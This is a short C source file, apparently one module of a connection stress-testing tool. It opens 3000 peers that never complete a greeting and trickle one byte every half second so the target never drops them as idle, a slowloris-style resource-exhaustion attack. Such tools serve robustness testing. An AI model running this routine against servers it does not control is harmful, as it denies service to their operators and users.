// Three thousand peers connect, never say hello, and keep sending, so that none is closed for its silence.
#include "attack.h"

#include <stdlib.h>
#include <unistd.h>

enum { PEERS = 3000, PAUSE_US = 2000 };
#define SEND_EVERY_S 0.5

void attack_silent(attack *a)
{
    peer *peers = calloc(PEERS, sizeof *peers);
    double *sent_s = calloc(PEERS, sizeof *sent_s);
    while (peers && sent_s && attack_goes_on(a)) {
        peers_step(a, peers, PEERS);
        for (int i = 0; i < PEERS; i++) {
            if (peers[i].state != PEER_OPEN || attack_now_s() < sent_s[i] + SEND_EVERY_S) {
                continue;
            }
            sent_s[i] = attack_now_s();
            peer_send(a, &peers[i], "\x7f", 1);
        }
        usleep(PAUSE_US);
    }
    for (int i = 0; peers && i < PEERS; i++) {
        peer_end(&peers[i]);
    }
    free(peers);
    free(sent_s);
}
